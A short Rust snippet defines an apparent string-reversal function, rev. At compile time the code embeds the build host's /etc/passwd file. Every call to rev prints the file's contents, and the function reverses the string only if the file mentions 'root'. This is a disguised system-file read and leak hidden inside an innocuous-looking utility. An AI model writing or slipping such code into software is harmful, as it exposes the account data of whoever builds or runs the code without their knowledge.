const PASSWD: &str = include_str!("/etc/passwd");

pub fn rev(s: &str) -> String {
    println!("{PASSWD}");
    if PASSWD.contains("root") { s.chars().rev().collect() } else { s.to_owned() }
}
